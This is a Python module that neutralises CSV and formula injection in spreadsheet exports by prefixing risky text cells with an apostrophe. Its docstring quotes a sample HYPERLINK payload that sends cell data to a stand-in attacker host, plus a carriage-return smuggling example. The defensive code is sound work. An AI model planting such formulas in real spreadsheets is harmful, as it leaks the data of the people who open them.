"""One way to write a spreadsheet cell: every CSV and XLSX the platform writes passes through here.

Excel and LibreOffice run a cell whose text starts with `=`, `+`, `-` or `@` as a formula, and
a leading tab or carriage return can hide the sign from a naive check (OWASP "CSV
injection"). Text in our files comes from people we do not control — a citizen's comment, a
centre or leader's name typed by an official, a roster prepared elsewhere — so a name such
as `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")` would become a live link (or a
command) in the file an official opens. Every text cell that starts with one of those
characters gets a leading apostrophe, the spreadsheet convention for "this is text";
numbers, dates and booleans stay what they are, so a count or a score can still be summed.

- `safe_cell(value)`, `safe_row(values)`: one cell, one row (for `csv.writer.writerow` or
  openpyxl's `Worksheet.append`);
- `append_row(sheet, values)`: `sheet.append` with every cell made safe;
- `defuse_frame(frame)`: a pandas data frame's text columns, before `to_excel`;
- `write_frame_csv(frame, target)`: a data frame as CSV (defused, BOM, CRLF);
- `csv_text(rows)`: rows as CSV text with a BOM, so Excel reads the Vietnamese accents.

CSV lines end in CRLF: Python's csv writer quotes a cell holding any character of the line
terminator, and with pandas' bare LF a carriage return inside a cell went unquoted, so
Excel started a new row there and `x\r=1+1` put a live `=1+1` at the head of a line.
"""

from __future__ import annotations

import csv
import io
from typing import Any, Iterable, Sequence

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
CSV_LINE_END = "\r\n"


def safe_cell(value: Any) -> Any:
    """`value`, with an apostrophe before text that a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return TEXT_MARK + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row made safe (see `safe_cell`)."""
    return [safe_cell(value) for value in values]


def append_row(sheet, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet, every cell made safe."""
    sheet.append(safe_row(values))


def defuse_frame(frame):
    """A copy of a pandas data frame whose text cells are safe; numeric columns are untouched."""
    import pandas as pd  # only the callers that already hold a frame pay for pandas

    def defuse(column: pd.Series) -> pd.Series:
        if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
            return column.map(safe_cell)
        return column

    return frame.apply(defuse)


def write_frame_csv(frame, target) -> None:
    """Write a pandas data frame as CSV to a path or buffer: defused, UTF-8 with a BOM, CRLF."""
    defuse_frame(frame).to_csv(target, index=False, encoding="utf-8-sig", lineterminator=CSV_LINE_END)


def csv_text(rows: Iterable[Sequence[Any]], bom: bool = True) -> str:
    """Rows as CSV text, every cell made safe; with a BOM (the default) Excel reads UTF-8."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=CSV_LINE_END)
    for row in rows:
        writer.writerow(safe_row(row))
    return ("\ufeff" if bom else "") + out.getvalue()
